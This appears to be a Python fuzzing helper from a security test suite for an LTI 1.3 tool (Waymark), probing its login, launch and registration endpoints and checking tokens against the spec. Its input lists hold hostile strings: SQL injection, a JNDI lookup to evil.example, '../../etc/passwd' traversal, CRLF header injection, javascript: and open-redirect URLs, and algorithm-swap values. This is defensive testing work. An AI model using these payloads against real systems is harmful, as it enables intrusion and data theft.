"""Hostile input by the dice, and a way to hand it to the application byte for byte."""

import io
import json
import struct
from collections import Counter
from dataclasses import dataclass, field
from urllib.parse import parse_qs, quote_from_bytes, urlsplit

from lti_tool.launch import cookies
from lti_tool.launch.state import LoginRecord
from tests.attacks.verdict import SESSION_COOKIE
from tests.lti_tool.platform import ISSUER, LTI, TOOL
from tests.lti_tool.stage import MOODLE_ISSUER, OTHER_ISSUER

FORM = "application/x-www-form-urlencoded"
STATE = "state-of-the-fuzzing"
NONCE = "nonce-of-the-fuzzing"
SECRET = "67400000..secret-of-the-fuzzing"
PLATFORMS = (ISSUER, OTHER_ISSUER, MOODLE_ISSUER)
DOORS = ("/lti/login", "/lti/launch", "/lti/proof", "/lti/register", "/lti/setup")

TEXTS = (
    "", " ", "\x00", "\ud800", "é", "\U0001d54f", "\u202e", "\u2028", "\ufeff", "\x1b[31m",
    "a" * 300, "a" * 5_000, "' OR '1'='1", "{{7*7}}", "${jndi:ldap://evil.example}", "<script>",
    "../../etc/passwd", "%00", "%", "+", "&iss=x", "\r\nSet-Cookie: a=b", "-1", "1e309", "NaN",
    "null", "true", "[]", "{}", "1" * 5_000, "https://evil.example", "//evil.example",
    "javascript:alert(1)", "https://waymark.example@evil.example/", "https://[::1", "https://[",
    "https://waymark.example:99999/", "https://waymark.example:x/", "http://\u2100.example/",
    "https://waymark.example\\@evil.example/", "_parent", "eyJhbGciOiJSUzI1NiJ9.e30.AA", "..",
    TOOL + "/lti/launch", TOOL + "/lti/launch?\x00#\ud800", ISSUER, "client-A", "dep-1", "k1",
    STATE, NONCE, "LtiResourceLinkRequest", "LtiDeepLinkingRequest", "LtiSubmissionReviewRequest",
    "1.3.0", "RS256", "none", "HS256",
)  # fmt: skip
PARAMETERS = (
    "iss", "client_id", "login_hint", "lti_message_hint", "lti_deployment_id", "target_link_uri",
    "lti_storage_target", "state", "id_token", "error", "error_description", "ticket", "value",
    "csrf", "invite", "openid_configuration", "registration_token", "id", "issuer", "api_url",
    "deployment_id", "name", "JWT", "a[b]", "__proto__", "x" * 300,
)  # fmt: skip
CLAIMS = (
    "iss", "aud", "azp", "sub", "iat", "exp", "nbf", "jti", "nonce", "name", "given_name", "email",
    "picture", "locale", *(
        LTI + name
        for name in (
            "message_type", "version", "deployment_id", "target_link_uri", "resource_link", "roles",
            "context", "custom", "tool_platform", "role_scope_mentor", "launch_presentation", "lis",
            "lti1p1", "for_user",
        )
    ),
    "https://purl.imsglobal.org/spec/lti-dl/claim/deep_linking_settings",
    "https://purl.imsglobal.org/spec/lti-ags/claim/endpoint",
    "https://purl.imsglobal.org/spec/lti-nrps/claim/namesroleservice",
    "https://www.instructure.com/placement",
)  # fmt: skip
MEMBERS = (
    "id", "title", "label", "type", "canvas_course_id", "canvas_user_id", "waymark_competencies",
    "guid", "url", "deep_link_return_url", "accept_types", "accept_multiple", "data", "lineitem",
    "lineitems", "scope", "context_memberships_url", "user_id", "",
)  # fmt: skip
HEADERS = ("alg", "typ", "kid", "jku", "jwk", "x5u", "x5c", "crit", "b64", "zip", "cty", "enc")
MEDIA_TYPES = (
    FORM, FORM.upper(), FORM + "; charset=utf-16", FORM + "; charset=\x00", FORM + ";;;=", "",
    "text/plain", "application/json", "multipart/form-data", "multipart/form-data; boundary=b",
    "multipart/form-data; boundary=" + "b" * 500, "application/x-www-form-urlencoded, text/html",
)  # fmt: skip
# How a token's JSON may be written otherwise than a platform would.
WRITTEN = (
    lambda text: text,
    lambda text: text[:-1] + ',"sub":"teacher"}',
    lambda text: text[:-1] + ',"x":' + "[" * 20_000 + "]" * 20_000 + "}",
    lambda text: text[:-1] + ',"x":' + '{"x":' * 5_000 + "0" + "}" * 5_000 + "}",
    lambda text: text[:-1] + ',"exp2":' + "9" * 5_000 + "}",
    lambda text: text[:-1] + ',"x":1e999,"y":-1e999}',
    lambda text: text[:-1] + ',"x":NaN}',
    lambda text: text[:-1] + ',"name":"\\ud800"}',
    lambda text: text[:-1] + ',"\\ud800":"\\udfff\\ud800"}',
    lambda text: "\ufeff" + text,
    lambda text: text + text,
    lambda text: text[: len(text) // 2],
    lambda text: text.replace('"', "'"),
    lambda _text: "[" * 5_000,
    lambda _text: "\ud800",
)
REMOVED = object()


class Dice:
    """Choices made by bytes: a thousand of them cost no more than one draw does."""

    def __init__(self, data):
        self._data = data
        self._at = 0

    def __repr__(self):
        return f"Dice({len(self._data)} bytes)"

    def bytes(self, length):
        taken = bytes(self._data[(self._at + one) % len(self._data)] for one in range(length))
        self._at += length
        return taken

    def below(self, end):
        return int.from_bytes(self.bytes(2), "big") % end

    def pick(self, options):
        return options[self.below(len(options))]

    def text(self):
        if self.below(4):
            return self.pick(TEXTS)
        return self.bytes(2 * self.below(12)).decode("utf-16-le", "surrogatepass")

    def scalar(self):
        kind = self.below(8)
        if kind < 3:
            return self.text()
        if kind == 3:
            return struct.unpack("<d", self.bytes(8))[0]
        whole = int.from_bytes(self.bytes(9), "big", signed=True)
        return (None, True, False, whole)[kind - 4]

    def value(self):
        kind = self.below(4)
        if kind < 2:
            return self.scalar()
        if kind == 2:
            return {self.pick(MEMBERS): self.scalar() for _ in range(self.below(4))}
        return [self.scalar() for _ in range(self.below(4))]

    def pairs(self, most):
        return [
            (self.pick(PARAMETERS) if self.below(8) else self.text(), self.text())
            for _ in range(self.below(most + 1))
        ]

    def changed(self, known, names):
        """Something known with up to three members replaced or removed."""
        changes = {
            self.pick(names): self.value() if self.below(6) else REMOVED
            for _ in range(self.below(4))
        }
        both = known | changes
        return {name: value for name, value in both.items() if value is not REMOVED}

    def damaged(self, body):
        """Bytes put in, cut out or written over, in one to three places."""
        for _ in range(1 + self.below(3)):
            at, kind, data = self.below(len(body) + 1), self.below(3), self.bytes(self.below(5))
            cut = at if kind == 0 else at + len(data)
            body = body[:at] + (b"" if kind == 1 else data) + body[cut:]
        return body


@dataclass
class Reply:
    """What the application answered."""

    status: int
    headers: list[tuple[str, str]]
    text: str

    def header(self, name):
        return "\n".join(value for key, value in self.headers if key.lower() == name.lower())


@dataclass
class Doors:
    """Asks the application as a server does, and judges each answer."""

    stage: object = field(repr=False)
    tried: Counter = field(default_factory=Counter)

    def ask(self, method, path, *, query=b"", body=b"", media_type=FORM, headers=()):
        number = self.tried.total()
        self.tried[path if path in DOORS else "others"] += 1
        reply = self._answered(
            {
                "REQUEST_METHOD": method,
                "SCRIPT_NAME": "",
                "PATH_INFO": path,
                "QUERY_STRING": query.decode("latin-1"),
                "CONTENT_TYPE": media_type,
                "CONTENT_LENGTH": str(len(body)),
                "SERVER_NAME": "waymark.example",
                "SERVER_PORT": "443",
                "SERVER_PROTOCOL": "HTTP/1.1",
                # Each request comes from elsewhere, or the limits of rates would answer.
                "REMOTE_ADDR": f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}",
                "wsgi.version": (1, 0),
                "wsgi.url_scheme": "https",
                "wsgi.input": io.BytesIO(body),
                "wsgi.errors": io.StringIO(),
                "wsgi.multithread": True,
                "wsgi.multiprocess": True,
                "wsgi.run_once": False,
                **dict(headers),
            }
        )
        assert reply.status < 500, (method, path, query, body, media_type, headers)
        assert reply.status != 429, "the limits of rates are tested elsewhere"
        return reply

    def refused(self, method, path, **sent):
        """Ask something that must open nothing and lead nowhere but back to a known LMS."""
        reply = self.ask(method, path, **sent)
        assert not SESSION_COOKIE.search(reply.header("Set-Cookie")), sent
        if 300 <= reply.status < 400:
            address = urlsplit(reply.header("Location"))
            assert f"{address.scheme}://{address.netloc}" in PLATFORMS, sent
            assert parse_qs(address.query)["redirect_uri"] == [TOOL + "/lti/launch"], sent
        return reply

    def launch(self, body, media_type=FORM):
        """Post a launch to a login under way that this browser began."""
        record = LoginRecord(
            nonce=NONCE,
            platform=self.stage.platforms["client-A"],
            browser_digest=cookies.digest(SECRET),
            target=TOOL + "/lti/launch",
            created_at=self.stage.clock(),
        )
        self.stage.app.extensions["waymark"].logins.save(STATE, record)
        kept = f"{cookies.cookie_name(cookies.LOGIN_PREFIX, STATE)}={SECRET}"
        return self.ask(
            "POST",
            "/lti/launch",
            body=body,
            media_type=media_type,
            headers=[("HTTP_COOKIE", kept)],
        )

    def visit(self, launched):
        """Open the page that a launch led to."""
        name, _, rest = launched.header("Set-Cookie").rpartition("-waymark-")[2].partition("=")
        kept = f"{cookies.LAUNCH_PREFIX}{name}={rest.partition(';')[0]}"
        address = urlsplit(launched.header("Location"))
        return self.ask("GET", address.path, headers=[("HTTP_COOKIE", kept)])

    def sessions(self):
        # In large steps: thousands of logins lie beside them.
        return sum(1 for _ in self.stage.container.redis.scan_iter("waymark:launch:*", 20_000))

    def _answered(self, environ):
        begun = []
        parts = self.stage.app(environ, lambda status, headers, *_: begun.append((status, headers)))
        try:
            text = b"".join(parts).decode()
        finally:
            parts.close()
        status, headers = begun[0]
        return Reply(int(status.partition(" ")[0]), headers, text)


def encoded(fields):
    """A form or query; surrogates go as bytes that are no UTF-8."""
    return b"&".join(_quoted(name) + b"=" + _quoted(value) for name, value in fields)


def raw(text):
    """A text as a server hands it on in a header or path."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1")


def _quoted(text):
    return quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="").encode()


def is_right(text, header, now):
    """Whether LTI 1.3 lets a tool take this token, read without any of Waymark's code."""
    body = json.loads(text)
    audience = body["aud"] if isinstance(body["aud"], list) else [body["aud"]]
    expected = {
        "iss": ISSUER,
        "nonce": NONCE,
        LTI + "version": "1.3.0",
        LTI + "deployment_id": "dep-1",
    }
    return (
        all(body[name] == value for name, value in expected.items())
        and (header["alg"], header["kid"]) == ("RS256", "k1")
        and not {"jku", "jwk", "x5u", "x5c", "crit", "b64", "zip", "enc"} & set(header)
        and "client-A" in audience
        and body.get("azp", "client-A") == "client-A"
        and body["exp"] > now - 60
        and max(body["iat"], body.get("nbf", 0)) < now + 30
        and body[LTI + "target_link_uri"].startswith(TOOL + "/")
        and isinstance(body[LTI + "roles"], list)
        and (body[LTI + "message_type"] != "LtiResourceLinkRequest" or _has_link(body))
        and ("sub" not in body or _is_identifier(body["sub"]))
    )


def _has_link(body):
    return _is_identifier(body[LTI + "resource_link"]["id"])


def _is_identifier(value):
    return isinstance(value, str) and 0 < len(value) <= 255
